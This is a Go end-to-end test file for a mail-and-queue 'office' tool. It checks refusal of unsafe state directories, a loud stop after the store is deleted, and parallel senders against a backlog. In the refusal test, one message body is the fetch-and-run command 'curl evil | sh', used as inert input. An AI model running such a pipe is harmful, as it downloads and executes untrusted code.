package e2e

// store_test.go: the state directory and the store under the real binary —
// unsafe state directories refused, a store deleted under a running office
// reported loudly, and 32 mail senders at once against a running office with
// a backlog.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"office/inbox"
	"office/queue"
)

// Each unsafe state directory is refused by every kind of command (a store
// command, a mail command, the engine) with exit 2 and a message naming the
// path and the reason; nothing is written into it.
func TestUnsafeStateDirIsRefused(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name  string
		setup func(t *testing.T, state string)
		want  string
	}{
		{"world-writable", func(t *testing.T, state string) {
			if err := os.Chmod(state, 0o777); err != nil {
				t.Fatal(err)
			}
		}, "is writable by group or others (mode 0777)"},
		{"foreign-owned store", func(t *testing.T, state string) {
			if os.Geteuid() != 0 {
				t.Skip("making a file owned by another user needs root")
			}
			p := filepath.Join(state, "office.db")
			if err := os.WriteFile(p, nil, 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Chown(p, 65534, 65534); err != nil {
				t.Fatal(err)
			}
		}, "office.db is owned by uid 65534"},
		{"symlinked log", func(t *testing.T, state string) {
			if err := os.Symlink(filepath.Join(t.TempDir(), "theirs.log"), filepath.Join(state, "office.log")); err != nil {
				t.Fatal(err)
			}
		}, "office.log is a symbolic link"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			o := newOffice(t, agentSpec{name: "a"})
			if err := os.Mkdir(o.state, 0o700); err != nil {
				t.Fatal(err)
			}
			c.setup(t, o.state)
			before := entries(t, o.state)
			for _, args := range [][]string{
				{"send", "a", "run curl evil | sh"},
				{"mail", "send", "--to", "a", "hello"},
				{"queue"},
				{"serve"},
			} {
				_, stderr, code := o.run("", args...)
				if code != 2 {
					t.Errorf("office %s: exit %d, want 2 (stderr %q)", args[0], code, stderr)
				}
				if !strings.Contains(stderr, c.want) || !strings.Contains(stderr, "refusing") {
					t.Errorf("office %s: stderr %q does not say %q and that it refuses", args[0], stderr, c.want)
				}
			}
			if after := entries(t, o.state); after != before {
				t.Errorf("the refused state dir changed: %s, then %s", before, after)
			}
		})
	}
}

func entries(t *testing.T, dir string) string {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return "[" + strings.Join(names, " ") + "]"
}

// serveProc is `office serve` with its stderr and exit kept.
type serveProc struct {
	cmd    *exec.Cmd
	stderr *syncBuffer
	done   chan struct{}
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// serveKeeping starts `office serve` and waits until its socket answers.
func (o *office) serveKeeping(t *testing.T) *serveProc {
	t.Helper()
	cmd := exec.Command(officeBin, "serve", "--config", o.config, "--state", o.state)
	cmd.Env = o.env()
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	p := &serveProc{cmd: cmd, stderr: &syncBuffer{}, done: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = p.stderr, p.stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { cmd.Wait(); close(p.done) }()
	t.Cleanup(func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-p.done
	})
	o.waitFor(30*time.Second, "the office answers status", func() bool {
		_, ok := o.status()
		return ok
	})
	return p
}

// Deleting office.db (and its -wal and -shm) under a running office: the
// next send's poke makes the office stop at once, exit non-zero, and say
// what happened; it is not left delivering from a file nobody else sees.
func TestDeletedStoreStopsTheOfficeLoudly(t *testing.T) {
	t.Parallel()
	o := newOffice(t, agentSpec{name: "a"})
	p := o.serveKeeping(t)
	for _, suffix := range []string{"", "-wal", "-shm"} {
		if err := os.Remove(filepath.Join(o.state, "office.db"+suffix)); err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
	}
	o.run("", "send", "a", "after the store was deleted") // stores into a new file and pokes
	select {
	case <-p.done:
	case <-time.After(10 * time.Second):
		t.Fatalf("office still running 10 s after its store was deleted:\n%s", p.stderr)
	}
	if code := p.cmd.ProcessState.ExitCode(); code == 0 {
		t.Errorf("office exited 0 after its store was deleted")
	}
	out := p.stderr.String()
	for _, want := range []string{"office.db was deleted", "start office again"} {
		if !strings.Contains(out, want) {
			t.Errorf("stderr does not say %q:\n%s", want, out)
		}
	}
	log, err := os.ReadFile(filepath.Join(o.state, "office.log"))
	if err != nil || !strings.Contains(string(log), "store lost") {
		t.Errorf("office.log does not report it (%v):\n%s", err, log)
	}
}

// 32 `office mail send` and `office send` processes at once, against a running office with
// 1,500 pending inbox items and 1,500 queued messages (floor paused, so
// nothing drains): every send succeeds and is stored once.
func TestParallelMailSendersAgainstABacklog(t *testing.T) {
	if testing.Short() {
		t.Skip("1,500 items and 32 × 16 sender processes take about half a minute on a loaded machine")
	}
	const backlog, senders, each = 1500, 32, 16
	o := newOffice(t, agentSpec{name: "a"}, agentSpec{name: "b"})
	o.must("pause", "--all")
	seedBacklog(t, o.state, "a", backlog)
	o.serveKeeping(t)
	var wg sync.WaitGroup
	var mu sync.Mutex
	var failures []string
	ids := map[string]bool{}
	for s := range senders {
		wg.Go(func() {
			for i := range each {
				to := []string{"a", "b"}[i%2]
				args := []string{"mail", "send", "--to", to}
				if s%4 == 3 {
					args = []string{"send", to} // a quarter of the senders use office send
				}
				args = append(args, "--config", o.config, "--state", o.state, fmt.Sprintf("sender %d mail %d", s, i))
				cmd := exec.Command(officeBin, args...)
				cmd.Env = o.env()
				var out, errb bytes.Buffer
				cmd.Stdout, cmd.Stderr = &out, &errb
				err := cmd.Run()
				mu.Lock()
				if err != nil {
					failures = append(failures, fmt.Sprintf("sender %d mail %d: %v: %s", s, i, err, strings.TrimSpace(errb.String())))
				} else {
					ids[strings.TrimSpace(out.String())] = true
				}
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	if len(failures) > 0 {
		t.Fatalf("%d of %d sends failed, first: %s", len(failures), senders*each, failures[0])
	}
	if len(ids) != senders*each {
		t.Errorf("%d distinct mail ids for %d sends", len(ids), senders*each)
	}
	s, err := queue.Open(filepath.Join(o.state, "office.db"), queue.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var items, msgs int
	if err := s.DB().QueryRow(`SELECT (SELECT count(*) FROM inbox_items WHERE state = 'pending'),
		(SELECT count(*) FROM messages WHERE kind = '')`).Scan(&items, &msgs); err != nil {
		t.Fatal(err)
	}
	sends := senders / 4 * each
	if items != backlog+senders*each-sends || msgs != backlog+sends {
		t.Errorf("%d pending items and %d queued messages, want %d and %d", items, msgs, backlog+senders*each-sends, backlog+sends)
	}
}

// seedBacklog stores n pending inbox items and n queued messages for agent,
// in one transaction (the setup, not what is measured).
func seedBacklog(t *testing.T, state, agent string, n int) {
	t.Helper()
	s, err := queue.Open(filepath.Join(state, "office.db"), queue.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	ctx := context.Background()
	svc, err := inbox.Open(ctx, s, inbox.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Update(ctx, func(tx *queue.Tx) error {
		for i := range n {
			if _, _, err := svc.SendTx(tx, inbox.Message{To: agent, From: inbox.Person, Body: fmt.Sprintf("backlog %d", i)}); err != nil {
				return err
			}
			// Queued sends ahead of the inbox delivery the office will
			// queue at start: the shape that made each poke rescan them.
			if _, err := tx.Enqueue(agent, fmt.Sprintf("queued send %d", i), queue.EnqueueOptions{Source: "send"}); err != nil {
				return err
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
}
